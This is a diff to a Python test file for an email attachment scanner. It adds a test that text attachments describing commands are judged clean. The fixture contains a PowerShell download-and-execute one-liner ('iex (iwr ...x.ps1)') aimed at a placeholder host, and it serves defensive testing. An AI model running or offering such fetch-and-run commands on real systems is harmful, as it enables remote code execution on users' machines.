@@ -302,3 +302,9 @@ def test_mail_that_quotes_a_part_is_clean() -> None:
 def test_a_nameless_part_is_named_by_other_fields(field: str) -> None:
     data = mail(f"Content-Type: application/octet-stream\r\n{field}\r\n\r\nhello\r\n".encode())
     assert ("EXT_EXECUTABLE", "2") in codes(check_attachments(data))
+
+
+@pytest.mark.parametrize("name", ["README.md", "install.rst", "session.log"])
+def test_texts_that_speak_of_commands_are_clean(name: str) -> None:
+    text = b"# Install\n\niex (iwr https://example.org/x.ps1)\nStart-Process notepad\n"
+    assert check_attachments(mail(part(name, text, "text/plain"))).verdict == "clean"
